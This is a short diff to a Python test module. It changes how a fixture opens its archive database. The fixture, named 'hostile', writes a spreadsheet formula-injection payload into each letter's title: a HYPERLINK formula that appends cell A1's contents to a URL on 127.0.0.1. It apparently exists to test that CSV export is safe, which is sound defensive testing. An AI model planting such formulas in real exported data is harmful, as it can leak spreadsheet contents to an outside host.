@@ -17,6 +17,7 @@ from fuhan.terminal.spreadsheet import write_csv
 from storage.database.archive import open_archive
 from storage.schema.letter_codec import pack, unpack
 from storage.schema.tables import versions
+from tests.archive_copy import archive_url
 
 Fuhan = Callable[..., Any]  # the command line, as a shell would call it
 
@@ -80,7 +81,7 @@ HOSTILE = '=HYPERLINK("http://127.0.0.1/?"&A1,"复函")'
 @pytest.fixture
 def hostile(held: Path) -> Path:
     """Return the database, in which a title and the first words of an edit are formulas."""
-    archive = open_archive(f"sqlite:///{held}", create=False)
+    archive = open_archive(archive_url(held), create=False)
     with archive.writing() as connection:
         for row in connection.execute(versions.select()).all():
             letter = replace(unpack(row.letter), title=HOSTILE, contact="@x", phone="+86 1")
